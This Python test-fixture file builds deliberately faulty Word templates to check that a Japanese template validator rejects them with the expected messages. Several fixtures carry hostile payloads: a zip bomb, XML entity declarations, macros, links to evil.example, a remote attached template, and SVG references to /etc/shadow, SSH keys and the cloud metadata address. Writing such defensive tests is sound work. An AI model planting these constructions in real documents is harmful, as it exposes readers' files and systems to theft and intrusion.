"""Word templates with one problem each, built from a clean one (shared by the check tests)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import docx


def clean_template(*paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs or ("{{ organization.name }} 様", "{{ agreement.start_date|wareki }}"):
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, change: Callable[[str, bytes], bytes | None] | None = None,
          extra: dict[str, bytes] | None = None) -> bytes:
    """Copy a .docx, passing each entry through ``change`` and adding ``extra`` entries."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info)
            if change is not None:
                content = change(info.filename, content) or content
            dst.writestr(info.filename, content)
        for name, content in (extra or {}).items():
            dst.writestr(name, content)
    return out.getvalue()


def _in_body(old: str, new: str) -> Callable[[str, bytes], bytes | None]:
    def change(name: str, content: bytes) -> bytes | None:
        if name == "word/document.xml":
            return content.replace(old.encode(), new.encode())
        return None
    return change


def not_a_docx() -> bytes:
    return "団体名,代表者\nNPO法人A,山田\n".encode()


def broken_zip() -> bytes:
    return clean_template()[:2000]


def oversize() -> bytes:
    return b"PK" + b"\0" * (10 * 1024 * 1024 + 10)


def zip_bomb() -> bytes:
    # About 100 KB on disk, 60 MB of XML once unpacked.
    filler = b"<w:p/>" * (10 * 1024 * 1024)
    return rezip(clean_template(), extra={"word/bomb.xml": filler})


def xml_entities() -> bytes:
    def change(name: str, content: bytes) -> bytes | None:
        if name == "word/document.xml":
            return content.replace(
                b"?>", b'?><!DOCTYPE d [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>', 1)
        return None
    return rezip(clean_template(), change)


def macros() -> bytes:
    return rezip(clean_template(), extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})


def ole_object() -> bytes:
    return rezip(clean_template(), extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})


def external_link() -> bytes:
    def change(name: str, content: bytes) -> bytes | None:
        if name == "word/_rels/document.xml.rels":
            return content.replace(b"</Relationships>", (
                b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
                b'2006/relationships/hyperlink" Target="http://evil.example/x" '
                b'TargetMode="External"/></Relationships>'))
        return None
    return rezip(clean_template(), change)


def _relationship(part: str, relationship: bytes) -> Callable[[str, bytes], bytes | None]:
    def change(name: str, content: bytes) -> bytes | None:
        if name == part:
            return content.replace(b"</Relationships>", relationship + b"</Relationships>")
        return None
    return change


def external_link_single_quotes() -> bytes:
    # The same link written with single quotes (valid XML) slipped past a string match.
    return rezip(clean_template(), _relationship("word/_rels/document.xml.rels", (
        b"<Relationship Id='rIdY' Type='http://schemas.openxmlformats.org/officeDocument/"
        b"2006/relationships/image' Target='http://169.254.169.254/latest/meta-data/' "
        b"TargetMode='External'/>")))


def network_path_target() -> bytes:
    return rezip(clean_template(), _relationship("word/_rels/document.xml.rels", (
        b'<Relationship Id="rIdZ" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/image" Target="\\\\fileserver\\share\\seal.png"/>')))


def remote_attached_template() -> bytes:
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b"<Relationship Id='rIdT' Type='http://schemas.openxmlformats.org/officeDocument/"
            b"2006/relationships/attachedTemplate' Target='https://evil.example/normal.dotm' "
            b"TargetMode='External'/></Relationships>")

    def change(name: str, content: bytes) -> bytes | None:
        if name == "word/settings.xml":
            return content.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
        return None
    return rezip(clean_template(), change, extra={"word/_rels/settings.xml.rels": rels})


def include_picture_field() -> bytes:
    return rezip(clean_template(), _in_body(
        "</w:body>", '<w:p><w:fldSimple w:instr=\'INCLUDEPICTURE "http://evil.example/p.png" \\d\'/>'
        "</w:p></w:body>"))


def utf16_doctype() -> bytes:
    part = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
            ).encode("utf-16")
    return rezip(clean_template(), extra={"customXml/item9.xml": part})


def utf16_document() -> bytes:
    def change(name: str, content: bytes) -> bytes | None:
        if name == "word/document.xml":
            return content.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1
                                                   ).encode("utf-16")
        return None
    return rezip(clean_template(), change)


def lying_sizes() -> bytes:
    """A zip whose directory says document.xml is 100 bytes (it is larger): read truthfully."""
    data = bytearray(clean_template())
    at = data.find(b"PK\x01\x02")  # the central directory's entries
    while at != -1:
        length = int.from_bytes(data[at + 28:at + 30], "little")
        if data[at + 46:at + 46 + length] == b"word/document.xml":
            data[at + 24:at + 28] = (100).to_bytes(4, "little")  # its uncompressed size
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _svg(body: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" '
            'xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'
            f"{body}</svg>").encode()


def svg_local_file() -> bytes:
    # LibreOffice embeds what the picture points at in every PDF issued from the template.
    return rezip(clean_template(), extra={"word/media/image1.svg": _svg(
        '<image href="file:///etc/shadow" width="10" height="10"/>')})


def svg_remote_image() -> bytes:
    return rezip(clean_template(), extra={"word/media/image2.svg": _svg(
        '<image xlink:href="http://169.254.169.254/latest/meta-data/" width="10" height="10"/>')})


def svg_css_import() -> bytes:
    return rezip(clean_template(), extra={"word/media/image3.svg": _svg(
        "<style>@import url('file:///home/kyodo/.ssh/id_rsa');</style>")})


def svg_named_as_png() -> bytes:
    # The name says PNG; the content is an SVG with a reference: read by content, not name.
    return rezip(clean_template(), extra={"word/media/image4.png": _svg(
        '<rect style="fill: url(file:///etc/hostname)" width="1" height="1"/>')})


def syntax_error() -> bytes:
    return clean_template("前文", "{% if organization.name %}団体名")


def unknown_placeholder() -> bytes:
    return clean_template("{{ organization.name }}", "{{ applicant_seal }}")


def fullwidth_braces() -> bytes:
    return clean_template("｛｛ organization.name ｝｝")


def japanese_quotes_in_tag() -> bytes:
    return clean_template("{{ organization.name or 「未定」 }}")


def fails_test_render() -> bytes:
    # Syntax and names are fine, but the organization has no ``fax``.
    return clean_template("{{ organization.fax }}")


def date_compared_with_text() -> bytes:
    return clean_template("{% if agreement.start_date > answers.special_terms %}特約あり{% endif %}")


def text_column_summed() -> bytes:
    return clean_template("役割の合計 {{ role_shares|sum(attribute='item') }}")


def answer_of_another_kinds_form() -> bytes:
    return clean_template("予算規模 {{ answers.budget_scale }}")  # a basic sheet field


def unknown_filter() -> bytes:
    return clean_template("{{ agreement.start_date|waraki }}")


#: Templates the file checks pass and the test render with the city's example refuses.
RENDER_FAILURES = frozenset({"fails_test_render", "date_compared_with_text", "text_column_summed",
                             "answer_of_another_kinds_form"})

#: name -> (builder, a phrase of the message the user sees)
BAD_TEMPLATES: dict[str, tuple[Callable[[], bytes], str]] = {
    "not_a_docx": (not_a_docx, "Word文書（.docx）ではありません"),
    "broken_zip": (broken_zip, "として読めません"),
    "oversize": (oversize, "ファイルが大きすぎます"),
    "zip_bomb": (zip_bomb, "圧縮爆弾の疑い"),
    "xml_entities": (xml_entities, "XMLの実体宣言"),
    "macros": (macros, "マクロ（vbaProject.bin）"),
    "ole_object": (ole_object, "埋め込みオブジェクト（OLE）"),
    "external_link": (external_link, "http://evil.example/x"),
    "external_link_single_quotes": (external_link_single_quotes, "http://169.254.169.254/"),
    "network_path_target": (network_path_target, "fileserver"),
    "remote_attached_template": (remote_attached_template, "https://evil.example/normal.dotm"),
    "include_picture_field": (include_picture_field, "外部から内容を取り込むフィールド（INCLUDEPICTURE）"),
    "utf16_doctype": (utf16_doctype, "XMLの実体宣言"),
    "utf16_document": (utf16_document, "文字コードがUTF-8ではありません"),
    "lying_sizes": (lying_sizes, "サイズが偽られています"),
    "svg_local_file": (svg_local_file, "file:///etc/shadow"),
    "svg_remote_image": (svg_remote_image, "http://169.254.169.254/"),
    "svg_css_import": (svg_css_import, "file:///home/kyodo/.ssh/id_rsa"),
    "svg_named_as_png": (svg_named_as_png, "画像（word/media/image4.png）が文書の外"),
    "syntax_error": (syntax_error, "「{% if organization.name %}団体名」の段落"),
    "unknown_placeholder": (unknown_placeholder, "この種類の文書にない差込項目があります: applicant_seal"),
    "fullwidth_braces": (fullwidth_braces, "全角の括弧や％"),
    "japanese_quotes_in_tag": (japanese_quotes_in_tag, "タグの中にかぎ括弧"),
    "fails_test_render": (fails_test_render, "テスト作成に失敗しました: テンプレートの差込項目「organization.fax」"),
    "date_compared_with_text": (date_compared_with_text, "種類の違う値を比べています（日付と文字"),
    "text_column_summed": (text_column_summed, "文字の列を sum している"),
    "answer_of_another_kinds_form": (answer_of_another_kinds_form,
                                     "差込項目「answers.budget_scale」に対応するデータがありません"),
    "unknown_filter": (unknown_filter, "『|waraki』というフィルターはありません"),
}
